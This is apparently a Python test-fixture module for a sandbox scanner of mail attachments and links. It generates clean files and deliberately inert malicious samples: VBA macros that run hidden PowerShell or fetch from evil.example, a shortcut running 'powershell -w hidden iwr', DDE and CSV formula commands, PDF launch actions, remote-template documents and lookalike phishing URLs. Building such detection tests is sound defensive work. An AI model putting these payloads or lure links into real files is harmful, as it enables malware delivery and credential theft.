"""Files and links as they come in, bad and ordinary ones, made from the forms that they have in the field."""

from collections.abc import Iterator

from submissions.sandbox.base import Sample
from tests.sandbox.static import documents
from tests.sandbox.static.documents import field, notebook, office, packaged, pdf, program, rtf, rtf_object, shell_link
from tests.sandbox.static.samples import EICAR, file, link
from tests.sandbox.static.vba import old_excel, old_word

MACRO_STARTS = (
    "Sub AutoOpen()",
    "Sub Document_Open()",
    "Private Sub Workbook_Open()",
    "Sub Auto_Open()",
    "Sub Document_Close()",
    "Sub Button1_Click()",
    "Sub Totals()",
    "Function Discount(price)",
)
MACRO_BODIES = (
    'Shell "cmd /c start notes.txt", vbHide',
    'CreateObject("WScript.Shell").Run "powershell -w hidden -c 1", 0',
    'Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0"): h.Open "GET", "https://evil.example/a", False',
    'GetObject("winmgmts:").Get("Win32_Process").Create "notes.exe"',
    "x = Chr(99) & Chr(109) & Chr(100) & Chr(32): Shell x",
    'Open Environ("TEMP") & "\\a.vbs" For Output As #1: Print #1, "x": Close #1',
    'MsgBox "Hello"',
    'Range("A1").Value = 1',
)
TEXTS = (
    "Dear colleagues,\nplease find the minutes attached.\nKind regards\n",
    "Run powershell to see the list, or read the login guide at https://www.example.org/login.\n",
    "Your account statement for October. Enable the content filter in the settings.\n",
    "date,amount\n2026-10-01,-4.50\n2026-10-02,+7.20\n",
    "#include <stdio.h>\nint main(void) { return system(0); }\n",
)
PAGES = (
    "<html><body><table><tr><td><a href='https://www.example.org/offer'>Offer</a></td></tr></table></body></html>",
    "<!DOCTYPE html><html><head><title>Report</title><script>var total = 5; document.title = total;</script></head>"
    "<body><h1>Quarter</h1><p>Login figures by month</p></body></html>",
    "<html><body><form action='/search'><input name=q></form><img src='https://www.example.org/logo.png'></body></html>",
    "<html><head><script src='https://www.example.org/j.js'></script></head><body onload='start()'>x</body></html>",
)
ORDINARY_LINKS = (
    "https://www.example.org/",
    "https://www.example.org/login?next=%2Faccount",
    "https://accounts.google.com/signin/v2/identifier?continue=https%3A%2F%2Fmail.google.com",
    "https://login.microsoftonline.com/common/oauth2/authorize?client_id=1",
    "https://contoso.sharepoint.com/:x:/s/finance/Eabc?e=1",
    "https://contoso-my.sharepoint.com/personal/anna_contoso_com/_layouts/15/onedrive.aspx",
    "https://u1234567.ct.sendgrid.net/ls/click?upn=u001.AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "https://click.mailing.example.com/track/click/30512345/www.example.org?p=eyJzIjoiYWJj",
    "https://example.us5.list-manage.com/unsubscribe?u=1&id=2&e=3&c=4",
    "https://www.linkedin.com/comm/in/anna?trk=eml-email_notification&midToken=AQ",
    "https://docs.google.com/document/d/1abc/edit",
    "https://github.com/django/django/releases/tag/5.2",
    "https://teams.microsoft.com/l/meetup-join/19%3ameeting_x%40thread.v2/0?context=%7b%7d",
    "https://zoom.us/j/123456789?pwd=abc",
    "https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=1",
    "https://www.paypal.com/invoice/p/#ABC123",
    "https://eu.docusign.net/signing/emails/v1-1a2b",
    "https://www.amazon.de/gp/css/order-history?ref_=hdr",
    "https://t.co/abc123",
    "https://bit.ly/3xYz",
    "https://aka.ms/teams",
    "https://customer-portal.some-company.example/orders/2026/11",
    "http://news.example.org/2026/11/24/story.html",
    "https://www.example.org/download/manual.pdf",
    "https://cdn.example.org/assets/app.min.js?v=3",
    "https://shop.example.org/account/orders",
    "mailto:info@example.org",
    "tel:+4930123456",
    "https://subdomain.team.company.example.co.uk/path",
    "https://www.example.org:8443/status",
    "https://support.apple.com/en-us/HT201232",
    "https://www.booking.com/confirmation.html?aid=1",
)
BAD_LINKS = (
    "https://paypal.com.account-verify.example.top/login",
    "http://198.51.100.23/office365/login.php",
    "https://microsoft-login.secure-verify.example.xyz/auth",
    "https://www.paypal.com@evil.example/signin",
    "http://0xC6336417/paypal/",
    "https://paypa1.com/signin",
    "https://microsоft.com/account",
    "https://login-office365.weebly.com/",
    "https://secure-webmail-login.web.app/#anna@contoso.com",
    "https://1a2b3c.trycloudflare.com/invoice.lnk",
    "https://www.example.org/wp-content/plugins/x/dhl/login.php",
    "https://ipfs.io/ipfs/Qm1/login.html#anna@contoso.com",
    "https://verify-account.netlify.app/",
    "http://203.0.113.9:8081/update.exe",
    "file://203.0.113.9/share/invoice.pdf",
    "\\\\203.0.113.9@80\\share\\a",
    "search-ms:query=invoice&crumb=location:\\\\203.0.113.9\\a",
    "ms-msdt:/id PCWDiagnostic /skip force",
    "https://docusign.review-document.example.click/verify/anna@contoso.com",
    "https://netflix-billing.example.icu/account/update",
    "https://netfl1x.com/login",
    "https://contoso-helpdesk.com/reset",
    "https://c0ntoso.com/",
    "data:text/html;base64,PHNjcmlwdD4=",
)


def macro_documents() -> Iterator[Sample]:
    for start in MACRO_STARTS:
        end = "End Function" if start.startswith("Function") else "End Sub"
        for body in MACRO_BODIES:
            source = f"{start}\r\n{body}\r\n{end}\r\n"
            for kind in ("docm", "xlsm", "pptm"):
                yield file(documents.with_macro(kind, source), f"invoice.{kind}")
            yield file(old_word(source), "invoice.doc")
            yield file(old_excel(source), "invoice.xls")


def bad_files() -> Iterator[Sample]:
    """One of each kind that comes by mail to do harm, built harmlessly."""
    yield file(EICAR, "eicar.com")
    yield file(program(), "invoice.pdf.exe")
    yield file(documents.zipped({"invoice.pdf.exe": program()}), "invoice.zip")
    yield file(documents.zipped({"invoice.js": "new ActiveXObject('WScript.Shell').Run('x')"}), "invoice.zip")
    yield file(shell_link("/c powershell -w hidden iwr https://evil.example/a", "cmd.exe"), "invoice.pdf.lnk")
    yield file(notebook(b"<job><script>WScript.Shell</script></job>"), "invoice.one")
    yield file(b"<html><hta:application><script>new ActiveXObject('WScript.Shell')</script></html>", "invoice.hta")
    yield file(b"powershell -enc " + b"QQBC" * 30, "invoice.bat")
    yield file(documents.with_remote("attachedTemplate", "https://evil.example/a.dotm"), "invoice.docx")
    yield file(documents.with_remote("oleObject", "mhtml:https://evil.example/a.html!x-usc:x"), "invoice.docx")
    yield file(office("docx", text=field("DDEAUTO c:\\\\windows\\\\cmd.exe /c x")), "invoice.docx")
    yield file(rtf(rtf_object("Equation.3", bytes(64), "\\objemb\\objupdate")), "invoice.doc")
    yield file(rtf(rtf_object("Package", packaged("invoice.js", b"x = 1")[4:])), "invoice.rtf")
    yield file(pdf(catalog="/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c x)>>>>"), "invoice.pdf")
    yield file(pdf(catalog="/OpenAction<</S/JavaScript/JS(this.exportDataObject\\({nLaunch:2}\\))>>"), "invoice.pdf")
    yield file(pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "invoice.pdf")
    yield file(pdf("<</S/URI/URI(https://evil.example/invoice.exe)>>"), "invoice.pdf")
    yield file(b"<script>b=new Blob([atob('TVo=')]);a.href=URL.createObjectURL(b);a.download='a';</script>", "a.html")
    yield file(b"<form action=https://evil.example/p><input type=password></form>", "a.html")
    yield file(b"=cmd|'/c calc'!A0,1\n", "a.csv")
    yield file(b"WEB\r\n1\r\nhttps://evil.example/a\r\n", "a.iqy")
    yield file(b"[InternetShortcut]\r\nURL=file://203.0.113.9/a/b.exe\r\n", "a.url")
    yield file(b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "x", 0\r\n', "a.vbs")


def clean_files() -> Iterator[Sample]:
    for number, text in enumerate(TEXTS):
        yield file(text.encode(), f"note-{number}.txt")
        for kind in ("docx", "xlsx", "pptx"):
            escaped = text.replace("&", "&amp;").replace("<", "&lt;")
            yield file(office(kind, {"docProps/core.xml": f"<x>{escaped}</x>"}, escaped), f"report-{number}.{kind}")
        yield file(rtf(text.replace("\\", "").replace("{", "").replace("}", "")), f"letter-{number}.rtf")
        yield file(pdf(f"<</Title({text[:20].strip()})>>", "<</S/URI/URI(https://www.example.org/a)>>"), "letter.pdf")
        yield file(documents.zipped({f"{number}.txt": text}), f"files-{number}.zip")
    for number, page in enumerate(PAGES):
        yield file(page.encode(), f"page-{number}.html")
    for kind in ("hyperlink", "image"):
        yield file(documents.with_remote(kind, "https://www.example.org/a.png"), "letter.docx")
    yield file(documents.with_remote("attachedTemplate", "file:///\\\\server\\templates\\letter.dotx"), "letter.docx")
    yield file(office("docx", {"word/embeddings/table.xlsx": office("xlsx")}), "letter.docx")
    yield file(pdf(catalog="/OpenAction[3 0 R/FitH 792]"), "letter.pdf")
    yield file(pdf(catalog="/OpenAction<</S/JavaScript/JS(this.print\\(true\\);)>>"), "form.pdf")
    yield file(pdf("<</FT/Tx/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2,0\\);)>>>>>>"), "form.pdf")
    yield file(b"\x89PNG\r\n\x1a\n" + bytes(300), "logo.png")
    yield file(b"\xff\xd8\xff\xe0" + bytes(300), "photo.jpg")
    yield file(b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "invite.ics")


def bad_links() -> Iterator[Sample]:
    yield from map(link, BAD_LINKS)


def ordinary_links() -> Iterator[Sample]:
    yield from map(link, ORDINARY_LINKS)
    # What mailing services do to honest links: another host in the text, a redirect, an address for counting.
    yield link(
        "https://click.example.org/c?u=https%3A%2F%2Fshop.example.com%2F&m=anna%40contoso.com",
        "text-mismatch",
        "open-redirect",
        "address-in-url",
        "long",
    )
